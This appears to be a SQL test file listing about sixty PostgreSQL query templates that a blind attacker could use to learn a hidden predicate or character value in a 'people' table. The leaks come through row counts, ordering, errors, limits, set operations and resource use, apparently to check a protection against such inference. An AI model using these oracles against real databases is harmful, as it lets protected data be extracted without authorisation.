-- Questions of a blind attacker, one a block: `$p` is true or false of the value, `$v` is the code of one of its letters, `$k` a number
-- that it is compared with. Asked at the target itself, every one of them is answered (extraction.ts).

select id from people p where $p and id = 1

select count(*) from people p where id = 1 and $p

select p.id from people p where id < 3 order by case when id = 1 and $p then 2 else 0 end, id

select id from people p where id < 3 order by (id = 1 and $p), id

select case when $p then 1 / (id - 1) else 0 end from people p where id = 1

select 1 / ($v - $v + case when $p then 0 else 1 end) from people p where id = 1

select 1 / (case when $v < $k then id - 1 else 1 end) from people p where id = 1

select count(*) from people p where id = 1 group by $p having $p

select 1 from people p where id = 1 group by id having bool_or($p)

select o.id from orders o join people p on p.id = 1 and $p and o.id = 1

select o.id, p.id from orders o left join people p on p.id = 1 and $p where o.id = 1

select id from orders where id = 1 and exists (select 1 from people p where p.id = 1 and $p)

select id from orders o where id = 1 and id in (select p.id from people p where $p)

select id from orders where id = 1 and (select $p from people p where p.id = 1)

select id from orders order by id limit (select case when $p then 1 else 2 end from people p where p.id = 1)

select id from orders order by id offset (select case when $p then 1 else 2 end from people p where p.id = 1)

select g from generate_series(1, (select case when $p then 1 else 2 end from people p where p.id = 1)) g

select generate_series(1, case when $p then 1 else 2 end) from people p where id = 1

select unnest(case when $p then array[1] else array[1, 2] end) from people p where id = 1

select case when $p then 'x' end from people p where id = 1

select nullif($p, true) from people p where id = 1

select nullif(case when $p then 'x' else 'y' end, 'x') from people p where id = 1

select 'x' where (select $p from people p where id = 1)

select count(*) filter (where $p) from people p where id = 1

select max(name) filter (where $p) from people p where id = 1

select string_agg(case when $p then 'x' end, ',') from people p where id = 1

select array_length(array_remove(array[case when $p then 1 else 2 end], 1), 1) from people p where id = 1

select (array['x'])[case when $p then 1 else 2 end] from people p where id = 1

select row_number() over (order by case when p.id = 1 and $p then 2 else 0 end, id), id from people p where id < 3 order by 1

select distinct $p from people p where id = 1 union all select true

select $p from people p where id = 1 intersect select true

select true except select $p from people p where id = 1

select true union select $p from people p where id = 1

select case when $p then '1' else 'x' end::int from people p where id = 1

select ('{' || case when $p then '}' else '' end)::json from people p where id = 1

select to_date(case when $p then '2026' else '' end || 'x', 'YYYY') is null, to_number(case when $p then '1' else 'x' end, '9') from people p where id = 1

select regexp_match(case when $p then 'x' else 'y' end, 'x') from people p where id = 1

select 'x' ~ case when $p then '(' else 'x' end from people p where id = 1

select jsonb_build_object('a', $p) -> case when $p then 'a' else 'b' end from people p where id = 1

select repeat('x', case when $p then 2000000000 else 1 end) is null from people p where id = 1

select chr(case when $p then 0 else 65 end) from people p where id = 1

select lag(id, case when $p then 0 else 5 end) over () from people p where id = 1

with recursive r(n) as (select 1 union all select n + 1 from r where n < (select case when $p then 2 else 3 end from people p where p.id = 1)) select count(*) from r

with a as materialized (select $p as yes from people p where id = 1) select 'x' from a where yes

select x.id from (select id, $p as yes from people p) x where x.yes and x.id = 1

select o.id from orders o, lateral (select 1 from people p where p.id = 1 and $p) l where o.id = 1

select o.id from orders o natural join (select 1 as id from people p where p.id = 1 and $p) l

select id from v_people v where id = 1 and case when (select $p from people p where p.id = 1) then true else false end

select percentile_disc(0) within group (order by case when $p then 0 else 1 end) from people p where id = 1 having bool_and($p)

select 1 from orders o tablesample bernoulli ((select case when $p then 100 else 0 end from people p where p.id = 1)) limit 1

values ((select 'x' from people p where id = 1 and $p))

select coalesce((select 'x' from people p where id = 1 and $p), 'none')

select array(select 1 from people p where id = 1 and $p)

select exists (select 1 from people p where id = 1 and $p)

select num_nulls(case when $p then 1 end) from people p where id = 1

select j.a from people p, json_table(case when $p then '[1]' else '[1, 2]' end::jsonb, '$[*]' columns (a int path '$')) j where id = 1

select s from people p, string_to_table(case when $p then 'a' else 'a,b' end, ',') s where id = 1

select set_config('search_path', case when $p then 'public' else 'evil' end, true) from people p where id = 1
